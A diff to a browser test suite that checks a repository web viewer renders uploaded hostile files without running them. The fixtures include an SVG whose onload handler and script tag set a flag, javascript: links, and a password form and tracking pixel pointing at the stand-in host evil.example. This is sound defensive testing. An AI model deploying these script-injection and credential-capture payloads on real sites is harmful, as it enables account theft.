@@ -37,10 +37,10 @@ describe('hostile content', { skip: needsChromium }, () => {
     await stage.client.createRepository({ body: { name: 'lakes', storage_namespace: 'local://lakes' } });
     for (const name of names) await put(name, attack);
     await put('page.html', `<!doctype html><title>t</title>${attack}`);
-    await put(
-      'drawing.svg',
-      '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="window.owned=1"><script>window.owned=1</script></svg>',
-    );
+    const drawing =
+      '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="window.owned=1"><script>window.owned=1</script></svg>';
+    await put('drawing.svg', drawing, { 'content-type': 'image/svg+xml' });
+    await put('untyped.svg', drawing);
     await put(
       'README.md',
       `# Title\n\n${attack}\n\n<a href="javascript:window.owned=1">html link</a> [link](javascript:window.owned=1) [data](data:text/html,x)\n\n![out](https://evil.example/pixel.png)\n\n<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="password"></form><style>body{display:none}</style>\n\n<div style="position:fixed;inset:0">over</div>`,
@@ -78,7 +78,8 @@ describe('hostile content', { skip: needsChromium }, () => {
   });
   after(() => stage?.close());
 
-  const put = (path: string, body: string) => stage.client.uploadObject({ repository: 'lakes', branch: 'main', path, body });
+  const put = (path: string, body: string, headers: Readonly<Record<string, string>> = {}) =>
+    stage.client.uploadObject({ repository: 'lakes', branch: 'main', path, body }, { headers });
   const unharmed = async (): Promise<void> => {
     await stage.settled();
     assert.equal(await page.evaluate('window.owned'), undefined);
@@ -128,7 +129,9 @@ describe('hostile content', { skip: needsChromium }, () => {
 
   it('pictures, pages and notebooks run nothing', async () => {
     await stage.open('repositories/lakes/object?ref=main&path=drawing.svg');
-    await page.locator('img').waitFor();
+    await page.locator('.picture img').evaluate(image => (image as unknown as { decode(): Promise<void> }).decode());
+    await stage.open('repositories/lakes/object?ref=main&path=untyped.svg');
+    await page.getByRole('heading', { name: 'This picture cannot be shown' }).waitFor();
     await stage.open('repositories/lakes/object?ref=main&path=page.html');
     await page.getByText('<!doctype html>').waitFor();
     await stage.open('repositories/lakes/object?ref=main&path=n.ipynb');
